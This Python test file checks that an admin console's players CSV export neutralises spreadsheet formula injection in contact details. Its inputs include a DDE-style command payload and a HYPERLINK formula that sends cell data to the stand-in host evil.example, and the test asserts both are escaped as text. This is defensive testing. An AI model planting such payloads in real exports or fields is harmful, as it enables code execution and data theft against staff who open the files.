"""The console's CSV downloads keep the spreadsheet formula guard (app/core/csv_text.py, the
one writer of every export): a player's contact details typed as a formula reach the
players list's export as text, never as something a spreadsheet runs."""

from __future__ import annotations

import base64
import csv
import io
import secrets
from decimal import Decimal
from urllib.parse import unquote

from app.app import app as site
from app.core.csv_text import csv_text, safe_cell
from app.routes import ADMIN_PLAYERS
from state.backoffice.console_players import PlayersState
from tests.helpers.accounts import make_member
from tests.helpers.page_state import staff_tab

PLAYERS = PlayersState.get_full_name()


def test_a_cell_that_starts_a_formula_is_written_as_text() -> None:
    for formula in ("=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(formula) == "'" + formula
    # numbers, plain signed figures (a refund's amount) and other texts stay as they are
    for kept in (Decimal("-12.50"), -3, "-12.50", "+5511988887777", "ana@example.com", ""):
        assert safe_cell(kept) == kept
    rows = list(csv.reader(io.StringIO(csv_text(["=a", "b"], [["=HYPERLINK(1)", "-1.00"]]))))
    assert rows == [["'=a", "b"], ["'=HYPERLINK(1)", "-1.00"]]


def _downloaded(told: list[object]) -> str:
    """The text of the CSV the page handed the browser to download."""
    for event in told:
        url = str(getattr(event, "payload", {}).get("url", ""))
        if url.startswith("data:text/csv"):
            head, _, body = url.partition(",")
            return base64.b64decode(body).decode() if head.endswith(";base64") else unquote(body)
    raise AssertionError(f"no CSV download among {told}")


async def test_the_players_export_neutralises_formulas_in_contact_details() -> None:
    tag = secrets.token_hex(3)
    await make_member(
        "BR1",
        username=f"csv{tag}",
        email='=HYPERLINK("http://evil.example/?d="&A1)@x.com',
        mobile="+55 11 9 8888-7777",
        last_login_ip="@SUM(1+1)",
    )
    tab = await staff_tab(site, "admin", "BR1")
    async with tab.processor:
        await tab.open(ADMIN_PLAYERS)
        await tab.send(f"{PLAYERS}.search", ADMIN_PLAYERS, form={"query": f"csv{tag}"})
        told = len(tab.told)
        await tab.send(f"{PLAYERS}.export", ADMIN_PLAYERS)
        assert (await tab.state(PlayersState)).error == ""
        rows = list(csv.reader(io.StringIO(_downloaded(tab.told[told:]))))
    (player,) = [row for row in rows[1:] if row[1] == f"csv{tag}"]
    assert player[2] == "'+55 11 9 8888-7777"
    assert player[3] == '\'=HYPERLINK("http://evil.example/?d="&A1)@x.com'
    assert player[5] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
